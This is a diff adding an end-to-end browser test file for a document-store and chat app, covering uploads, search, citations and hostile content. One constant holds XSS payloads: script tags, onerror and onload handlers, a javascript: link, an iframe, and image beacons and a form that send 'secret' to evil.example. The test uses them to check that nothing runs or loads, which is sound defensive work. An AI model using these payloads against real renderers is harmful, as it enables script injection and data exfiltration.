@@ -1,0 +1,66 @@
+/** Documents: uploaded, searched, cited, read; hostile ones too. */
+import { assistant, expect, get, madeChat, madeStore, openPage, user } from "./steps.mjs";
+
+const LEAVE = "# Leave\n\nEverybody has 31 days of paid leave a year.\n\n# Illness\n\nWho is ill calls before nine. 🐧\n\nTravel needs form T-17.";
+const HOSTILE = `<script>window.hacked = 1</script><img src="https://evil.example/a.png?q=secret" onerror="window.hacked = 2">
+
+![beacon](https://evil.example/b.png?q=secret) [harmless](javascript:window.hacked=3) [far](https://evil.example/c?q=secret)
+
+<iframe src="https://evil.example"></iframe><style>body { display: none }</style>
+<svg onload="window.hacked = 4"></svg><form action="https://evil.example"><button>Send</button></form>`;
+
+/** From the upload over states and search to the passage in its document. */
+export async function uploads({ page, url }) {
+  await openPage(page, url, "#/documents");
+  await page.getByRole("button", { name: "New store" }).first().click();
+  await page.fill(".dialog input", "Rules");
+  await page.keyboard.press("Enter");
+  const file = (name, text) => ({ name, mimeType: "application/octet-stream", buffer: Buffer.from(text) });
+  await page.locator('input[type="file"][multiple]').setInputFiles([file("leave.md", LEAVE), file("broken.pdf", "%PDF-1.4 nothing")]);
+  await page.locator(".file", { hasText: "leave.md" }).getByText("ready").waitFor();
+  await page.locator(".file", { hasText: "broken.pdf" }).getByText("damaged").waitFor();
+  await page.fill('input[name="query"]', "paid leave");
+  await page.keyboard.press("Enter");
+  await page.locator(".hits .passage").first().click();
+  await page.locator("mark", { hasText: "31 days of paid leave" }).waitFor();
+  await page.keyboard.press("Escape");
+  await page.locator(".reader").waitFor({ state: "detached" });
+  await page.getByRole("button", { name: "Delete broken.pdf" }).click();
+  await page.locator(".dialog").getByRole("button", { name: "Delete" }).click();
+  await page.locator(".file", { hasText: "broken.pdf" }).waitFor({ state: "detached" });
+}
+
+/** A citation opens its document at the exact words. */
+export async function citation({ page, url }) {
+  const { store, file } = await madeStore(url, "Cited", "leave.md", LEAVE);
+  const { text } = await get(url, `/v1/vector_stores/${store}/files/${file}/text`);
+  const quote = "Travel needs form T-17.";
+  const start = [...text.slice(0, text.indexOf(quote))].length;
+  const cited = { type: "file_citation", index: 14, file_id: file, filename: "leave.md", vector_store_id: store, start, end: start + quote.length, quote };
+  const id = await madeChat(url, "Cited", [user("How do I travel?"), assistant("With form T-17. Enjoy.", [cited])]);
+  await openPage(page, url, `#/chat/${id}`);
+  await page.getByRole("button", { name: "Source 1" }).click();
+  await page.locator("mark").waitFor();
+  expect((await page.textContent("mark")) === quote, "other words are marked");
+  await page.keyboard.press("Escape");
+  await page.locator(".source", { hasText: "leave.md" }).click();
+  await page.locator("mark", { hasText: quote }).waitFor();
+}
+
+/** Nothing in an answer or a document runs, loads, or is a link that nobody was asked about. */
+export async function hostile({ page, url }) {
+  const { store } = await madeStore(url, "Hostile", "hostile.txt", HOSTILE);
+  const id = await madeChat(url, "Hostile", [user("Read it."), assistant(HOSTILE)]);
+  await openPage(page, url, `#/chat/${id}`);
+  await page.getByText("<script>window.hacked = 1</script>").waitFor();
+  await page.getByText("picture not loaded: beacon").waitFor();
+  const found = await page.evaluate(() => document.querySelectorAll(".answer :is(img, iframe, script, style, form, svg[onload], a, object)").length);
+  expect(found === 0, `${found} elements of the text are in the page`);
+  await page.getByRole("button", { name: "far" }).click();
+  await page.getByText("https://evil.example/c?q=secret", { exact: true }).waitFor();
+  await page.getByRole("button", { name: "Cancel" }).click();
+  await page.goto(`${url}/#/documents/${store}`);
+  await page.getByRole("button", { name: "hostile.txt", exact: true }).click();
+  await page.locator(".document-text", { hasText: "window.hacked = 1" }).waitFor();
+  expect((await page.evaluate(() => window.hacked)) === undefined, "a script of the document ran");
+}
